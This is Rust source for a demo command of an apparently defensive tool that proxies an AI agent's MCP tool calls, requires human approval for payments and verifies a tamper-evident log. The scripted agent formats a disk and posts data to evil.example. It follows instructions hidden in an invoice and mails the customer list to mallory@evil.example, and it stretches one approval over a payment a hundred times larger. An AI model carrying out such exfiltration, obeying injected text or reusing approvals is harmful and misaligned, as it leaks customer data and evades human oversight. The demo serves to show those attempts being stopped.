//! `countersign demo`

use std::fs;
use std::io::{self, BufRead as _, IsTerminal as _};
use std::path::{Path, PathBuf};

use clap::Args;
use countersign_approval::{Decision, Reason};
use countersign_canon::{Hash, Json, Limits};
use countersign_event::{EventType, Line};
use countersign_store::{Filter, Folder, Reader};
use countersign_verify::{Expectation, Problem, Report, Selection};

use super::verify::verify_folder;
use crate::cli::data_option;
use crate::errors::{Code, Failure};
use crate::exit::Exit;
use crate::folder::create_new_private;
use crate::output::{self, inline};

mod agent;
mod forgery;
mod server;
mod shop;

use agent::{Agent, Answer};
pub(crate) use server::DemoServer;
use shop::Operator;

/// Watch an agent at work: what it may do, what is stopped, what waits for you, and what is left to check.
///
/// A scripted agent talks to a small MCP server through the real proxy and engine. Nothing leaves this
/// machine.
#[derive(Args)]
#[command(after_help = "\
It plays for people, so --format json is refused.

Examples:
  countersign demo
  countersign demo --yes-demo --data demo-data")]
pub(crate) struct Demo {
    /// Where to keep the log [default: a new folder among the temporary files]
    #[arg(long, value_name = "DIR")]
    data: Option<PathBuf>,
    /// Approve the payment without asking: for scripts
    #[arg(long)]
    yes_demo: bool,
}

impl Demo {
    pub(crate) fn run(self) -> Result<Exit, Failure> {
        if let Some(place) = &self.data {
            refuse_used(place)?;
        }
        let folder = Folder::new(self.data.clone().map_or_else(temporary, Ok)?);
        let (operator, manifest) = Operator::new(&folder)?;
        let effects = shop::effects(folder.path());
        let mut agent = Agent::start(folder.path(), &manifest, &effects)?;
        say("An agent works in a shop, behind `countersign mcp`:\n")?;
        self.play(&mut agent, &operator)?;
        agent.leave()?;
        tell_effects(&fs::read_to_string(&effects).unwrap_or_default())?;
        let session = session(&folder)?;
        let good = check(&folder, &session)?;
        say(&next_steps(&folder, &session))?;
        Ok(if good { Exit::Done } else { Exit::Unverified })
    }

    /// The script.
    fn play(&self, agent: &mut Agent, operator: &Operator) -> Result<(), Failure> {
        let list = || json(r#"{"of":"everything"}"#);
        step("lists the catalogue", agent.call("catalog_list", list()?)?)?;
        step(
            "formats a disk, which nobody allowed",
            agent.call("disk_format", json("{}")?)?,
        )?;
        let evil = json(r#"{"url":"https://evil.example/x","data":"prices"}"#)?;
        step(
            "posts to a host that is not listed",
            agent.call("http_post", evil)?,
        )?;
        self.pay(agent, operator)?;
        let invoice = json(r#"{"path":"invoice.txt"}"#)?;
        step(
            "reads an invoice that hides instructions",
            agent.call("read_file", invoice)?,
        )?;
        let mail = json(r#"{"to":"mallory@evil.example","text":"customers"}"#)?;
        step(
            "obeys them and mails the customer list",
            agent.call("mail_send", mail)?,
        )?;
        step(
            "lists the catalogue again, in circles",
            agent.call("catalog_list", list()?)?,
        )
    }

    /// A payment, which the manifest leaves to a human; then another one under the same approval.
    fn pay(&self, agent: &mut Agent, operator: &Operator) -> Result<(), Failure> {
        agent.begin("pay", json(r#"{"cents":4200,"to":"acme"}"#)?, None)?;
        let standing = operator.waiting()?;
        let code = standing.envelope.plan().hash().short();
        say(&format!(
            "  ⏸ {:<45} HOLD ⏸   code {code}",
            "pays 42.00: the manifest asks for a human"
        ))?;
        let decision = match self.yes_demo {
            true => Decision::Approved,
            false => ask(standing.rendering.text(), &code)?,
        };
        operator.decide(&standing, decision)?;
        step("  the payment, with the bytes as shown", agent.finish()?)?;
        let approval = Some(standing.envelope.id().to_string());
        let more = json(r#"{"cents":420000,"to":"acme"}"#)?;
        agent.begin("pay", more, approval.as_deref())?;
        step(
            "  a hundred times as much, on that approval",
            agent.finish()?,
        )
    }
}

/// Asks at the terminal. Enter alone is no.
fn ask(shown: &str, code: &str) -> Result<Decision, Failure> {
    if !std::io::stdin().is_terminal() {
        output::stderr(
            "countersign: nobody is at the terminal, so the payment is denied; see --yes-demo",
        );
        return Ok(Decision::Denied(
            Reason::new("nobody is at the terminal; see --yes-demo").ok(),
        ));
    }
    say(&format!(
        "\n{}\n\ntype `approve` to let exactly this run (code {code}), anything else denies:",
        shown.trim_end()
    ))?;
    let mut typed = String::new();
    std::io::stdin().lock().read_line(&mut typed)?;
    Ok(match typed.trim() {
        "approve" => Decision::Approved,
        _ => Decision::Denied(None),
    })
}

fn step(what: &str, answer: Answer) -> Result<(), Failure> {
    say(&match answer {
        Answer::Result(text) => {
            let text = inline(&text);
            let gap = match text.chars().count() > BESIDE {
                true => "\n      ",
                false => "",
            };
            format!("  ✓ {what:<45} ALLOW ✓  {gap}{text}")
        }
        Answer::Refused(reason) => format!("  ✗ {what:<45} DENY ✗   {reason}"),
    })
}

/// What the server did: it does what reaches it.
fn tell_effects(effects: &str) -> Result<(), Failure> {
    let done: Vec<&str> = effects.lines().collect();
    say(&format!("\nWhat reached the server: {}", done.join(", ")))
}

/// The session of the agent, by the newest event that ends one.
fn session(folder: &Folder) -> Result<String, Failure> {
    let ends = Filter {
        event_type: Some(EventType::Termination),
        ..Filter::default()
    };
    let last = Reader::open(folder)?.last(&ends, 1)?;
    let last = last
        .first()
        .ok_or_else(|| Failure::new(Code::Demo, "the session has no end"))?;
    Ok(Line::read(&last.line)
        .map_err(|error| Failure::new(Code::Demo, error.to_string()))?
        .session_id
        .into_owned())
}

/// Verifies the log, then copies of it that somebody has touched.
fn check(folder: &Folder, session: &str) -> Result<bool, Failure> {
    say("\nWhat happens when somebody touches the log:\n")?;
    let untouched = verify_folder(folder, &Selection::default(), &Expectation::default())?;
    tell("nothing touched", &untouched)?;
    let scope = countersign_event::Scope::new("default", session)?;
    let events = Reader::open(folder)?
        .page(&Filter::session(&scope), None, 1000)?
        .events;
    let lines: Vec<Vec<u8>> = events.into_iter().map(|event| event.line).collect();
    let head: Option<Hash> = lines
        .last()
        .and_then(|line| Some(Line::read(line).ok()?.hash));
    let head = head.ok_or_else(|| Failure::new(Code::Demo, "the session has no events"))?;
    let mut all_found = true;
    for (what, forged, expectation) in forgery::forgeries(&lines, head) {
        let copy = folder.path().join("demo-copy.jsonl");
        let report = forgery::verify_copy(&copy, &forged, &expectation);
        // The copy has served its purpose whatever came out of it.
        let _ = fs::remove_file(&copy);
        let report = report?;
        all_found &= !report.is_good();
        tell(what, &report)?;
    }
    Ok(untouched.is_good() && all_found)
}

/// SECURITY: what is played here leaves somebody who may approve, and the key to do it with.
fn refuse_used(place: &Path) -> Result<(), Failure> {
    let is_free = match fs::read_dir(place) {
        Ok(mut entries) => entries.next().is_none(),
        Err(error) if error.kind() == io::ErrorKind::NotFound => true,
        Err(_) if place.exists() => false,
        Err(error) => {
            let text = format!("cannot make `{}`: {error}", place.display());
            return Err(Failure::new(Code::Folder, text));
        }
    };
    match is_free {
        true => Ok(()),
        false => Err(Failure::new(
            Code::Exists,
            format!(
                "`{}` is there already, and the demo plays in a folder of its own",
                place.display()
            ),
        )),
    }
}

fn next_steps(folder: &Folder, session: &str) -> String {
    let data = data_option(folder.path());
    let program = output::program();
    format!(
        "\nnext:\n  {program} log list{data} --session {session}\n  \
         {program} verify{data}\n  {program} mcp -- YOUR-MCP-SERVER"
    )
}

fn json(text: &str) -> Result<Json, Failure> {
    Ok(Json::admit(text.as_bytes(), &Limits::event())?)
}

fn tell(what: &str, report: &Report) -> Result<(), Failure> {
    let (mark, words) = match &report.failure {
        None => ("✓", format!("{} events verified", report.events)),
        Some(finding) => {
            let place = finding
                .place
                .map(|place| format!("{place}: "))
                .unwrap_or_default();
            ("✗", format!("{place}{}", in_short(&finding.problem)))
        }
    };
    say(&format!("  {mark} {what:<28} {words}"))
}

/// Without the hashes and the other particulars.
fn in_short(problem: &Problem) -> String {
    match problem {
        Problem::Head { .. } => "the session does not end at the known head".to_owned(),
        other => {
            let text = other.to_string();
            text.split(": ").next().unwrap_or_default().to_owned()
        }
    }
}

fn say(text: &str) -> Result<(), Failure> {
    Ok(output::text(text)?)
}

/// A new folder that is nobody else's.
fn temporary() -> Result<PathBuf, Failure> {
    let base = std::env::temp_dir();
    let now = crate::clock::now_unix_ms()?;
    let process = std::process::id();
    let folder = base.join(format!("countersign-demo-{now}-{process}"));
    create_new_private(&folder)
        .map(|()| folder.clone())
        .map_err(|error| {
            Failure::new(
                Code::Folder,
                format!("cannot make `{}`: {error}", folder.display()),
            )
        })
}

/// How long an answer may be to stand on the line of the question.
const BESIDE: usize = 20;
